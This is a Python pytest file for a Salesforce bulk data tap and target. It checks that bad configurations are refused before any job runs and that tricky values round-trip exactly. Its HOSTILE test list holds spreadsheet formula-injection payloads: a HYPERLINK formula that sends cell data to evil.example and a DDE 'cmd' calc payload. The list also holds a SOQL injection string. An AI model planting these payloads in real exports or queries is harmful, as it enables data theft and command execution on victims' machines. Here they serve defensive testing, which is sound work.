"""Configuration errors refused before any job, and hostile values that must arrive exactly as
sent: spreadsheet formulas, quotes and line breaks everywhere, SOQL metacharacters in external
ids and in the tap's filter."""

from __future__ import annotations

import contextlib
import io
import json
import subprocess

import pytest

from sfbulk.errors import ConfigError
from target_sfbulk.target import TargetSfBulk
from tests.conftest import emulator_config
from tests.reliability.conftest import (
    command,
    plugin_env,
    record_message,
    run_target,
    schema_message,
    source_config,
    stats,
    write_config,
)

NAME_ONLY = {"Name": {"type": "string"}}

CONFIG_ERRORS = [
    ("no credentials at all", {"auth": None}, [schema_message("Account", NAME_ONLY)],
     "no credentials"),
    ("conflicting auth settings (password grant with a refresh token)",
     {"auth": "password", "refresh_token": "rt-extra"}, [schema_message("Account", NAME_ONLY)],
     "auth_type password conflicts with settings refresh_token"),
    ("password grant without its password",
     {"auth": "password", "password": None}, [schema_message("Account", NAME_ONLY)],
     "auth_type password needs the settings password"),
    ("unknown object", {}, [schema_message("Nope__c", NAME_ONLY)],
     "stream Nope__c: the org has no object 'Nope__c'"),
    ("upsert without an external id field",
     {"action": "upsert"}, [schema_message("Account", NAME_ONLY)], "upsert"),
    ("a field that is not an external id named as one",
     {"action": "upsert", "external_id_field": "Name"},
     [schema_message("Account", NAME_ONLY, ["Name"])], "Name"),
    ("an unknown field declared in the SCHEMA (unknown_fields reject)", {},
     [schema_message("Account", NAME_ONLY | {"Bogus__c": {"type": "string"}})], "Bogus__c"),
    ("max_api_share out of range", {"max_api_share": 1.5},
     [schema_message("Account", NAME_ONLY)], "max_api_share must be above 0 and at most 1"),
]


@pytest.mark.parametrize(("case", "settings", "messages", "message"), CONFIG_ERRORS,
                         ids=[c[0] for c in CONFIG_ERRORS])
def test_target_config_error_refused_before_any_job(emulator, observe, case, settings,
                                                    messages, message):
    settings = dict(settings)
    auth = settings.pop("auth", "refresh_token")
    if auth is None:
        config = {"login_url": emulator.url}
    else:
        config = emulator_config(emulator, auth_type=auth)
    for key, value in settings.items():
        if value is None:
            config.pop(key, None)
        else:
            config[key] = value
    records = [record_message(messages[0]["stream"], {"Name": "A"})]
    error = None
    try:
        target = TargetSfBulk(config=config)
        with contextlib.redirect_stdout(io.StringIO()):
            target.listen(io.StringIO("".join(json.dumps(m) + "\n"
                                              for m in messages + records)))
    except ConfigError as exc:
        error = exc
    assert isinstance(error, ConfigError), f"{case}: accepted"
    assert message in str(error), str(error)
    assert "\n" not in str(error)
    assert stats(emulator)["jobs"]["total"] == 0
    assert emulator.state.org.count("Account") == 0
    observe("config", case, f"refused before any job: `{str(error)[:150]}`", before=1,
            after=0)


def _tap_refuses(emulator, observe, case: str, overrides: dict, expected: str):
    from tap_sfbulk.tap import TapSfBulk

    out = io.StringIO()
    error: Exception | None = None
    try:
        tap = TapSfBulk(config=source_config(emulator, **overrides))
        with contextlib.redirect_stdout(out):
            tap.sync_all()
    except Exception as exc:
        error = exc
    observe("config", case, f"refused: `{str(error)[:140]}`" if error else "not refused",
            before=None, after=0)
    assert stats(emulator)["jobs"]["total"] == 0
    assert '"RECORD"' not in out.getvalue()
    assert error is not None, f"{case}: accepted"
    assert expected in str(error), str(error)


def test_tap_login_over_plain_http_refused(emulator, observe):
    _tap_refuses(emulator, observe, "tap: login_url http://example.com",
                 {"login_url": "http://example.com"}, "plain http://")


def test_tap_unknown_object_refused(emulator, observe):
    _tap_refuses(emulator, observe, "tap: unknown object in streams",
                 {"streams": ["Account", "Nope__c"]},
                 "streams: the org has no object named Nope__c")


# ---------------------------------------------------------------------------------------------
# Hostile values

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    '"quoted" at the start',
    'ends with a quote"',
    'a "quoted" middle',
    "comma, inside",
    "line\nbreak",
    "crlf\r\nbreak",
    "\nleading newline",
    "trailing newline\n",
    "tab\tinside",
    "back\\slash",
    "O'Brien",
    "' OR Name != '",
    "100% _wild_",
    " leading and trailing spaces ",
    "unicode ✓ café 東京 🚀",
]


@pytest.mark.parametrize("api", ["2.0", "1.0"])
def test_hostile_values_arrive_exactly(emulator, observe, api):
    properties = {"Ext_Id__c": {"type": "string"}, "Name": {"type": "string"},
                  "Long_Text__c": {"type": "string"}}
    messages = [schema_message("Type_Sample__c", properties, ["Ext_Id__c"])]
    # The hostile text goes in a text field and, with SOQL metacharacters, in the upsert key.
    keys = {f"K{i:02d}{value[:20]}": value for i, value in enumerate(HOSTILE)}
    messages += [record_message("Type_Sample__c", {"Ext_Id__c": key, "Name": f"N{i}",
                                                   "Long_Text__c": value})
                 for i, (key, value) in enumerate(keys.items())]
    first = run_target(emulator, messages, bulk_api=api, action="upsert")
    assert first.error is None, first.error
    # Upserting again by the same hostile keys must update, never duplicate.
    second = run_target(emulator, messages, bulk_api=api, action="upsert")
    assert second.error is None, second.error
    assert second.target.tally.streams()["Type_Sample__c"].updated == len(keys)
    stored = dict(emulator.state.org.query(
        "SELECT Ext_Id__c, Long_Text__c FROM Type_Sample__c"))
    assert stored == keys
    observe("hostile", f"Bulk {api}: formulas, quotes, line breaks, SOQL metacharacters in "
            "values and upsert keys",
            f"{len(keys)} values stored byte for byte; re-upsert by the same keys updated all "
            f"{len(keys)}, created none", before=len(keys), after=len(stored))


def test_tap_reads_hostile_values_back_exactly(emulator, observe, tmp_path):
    keys = {f"K{i:02d}": value for i, value in enumerate(HOSTILE)}
    emulator.state.org.write("Type_Sample__c", "insert", [
        {"Ext_Id__c": key, "Name": f"N{key}", "Text__c": value}
        for key, value in keys.items()])
    # The filter holds SOQL metacharacters: a quote escaped by the operator, LIKE wildcards.
    config = write_config(tmp_path / "tap.json", source_config(
        emulator, streams=["Type_Sample__c"],
        soql_filter={"Type_Sample__c": "Text__c != 'O\\'Brien' AND Name LIKE 'N%'"}))
    run = subprocess.run([command("tap-sfbulk"), "--config", config], capture_output=True,
                         env=plugin_env(), timeout=120)
    assert run.returncode == 0, run.stderr.decode()[-2000:]
    records = {}
    for line in run.stdout.decode().splitlines():
        message = json.loads(line)
        if message["type"] == "RECORD":
            records[message["record"]["Ext_Id__c"]] = message["record"]["Text__c"]
    expected = {key: value for key, value in keys.items() if value != "O'Brien"}
    assert records == expected
    observe("hostile", "tap reads hostile values back; soql_filter with an escaped quote and "
            "LIKE wildcards",
            f"{len(records)} values read exactly; the filter excluded exactly the O'Brien row",
            before=len(keys), after=len(records))
